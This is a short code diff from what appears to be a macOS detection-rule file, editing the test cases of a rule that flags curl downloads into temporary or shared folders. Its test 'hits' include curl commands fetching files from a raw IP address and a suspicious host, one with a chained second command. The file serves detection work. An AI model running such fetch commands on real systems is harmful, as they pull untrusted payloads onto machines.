@@ -391,10 +391,7 @@ export const MACOS: readonly Row[] = [
   behaviour('mac-fetch-to-temp', ['fetch-and-run', 'T1105', 'command-and-control', 'medium', 'medium'], {
     reason: 'A file is fetched into a temporary or shared folder.',
     benign: ['an installer script'],
-    hits: [
-      'curl -k -o /private/tmp/update http://203.0.113.9/update',
-      'curl -L0s http://api.mac-host.top/dl -o /private/tmp/x.zip',
-    ],
+    hits: ['curl -k -o /Users/Shared/update http://203.0.113.9/update; open /Applications/Safari.app'],
     misses: ['curl -O https://host.example/x.zip'],
     look: onProcess(['curl', 'wget'], (process, { os }) =>
       os === 'macos' &&
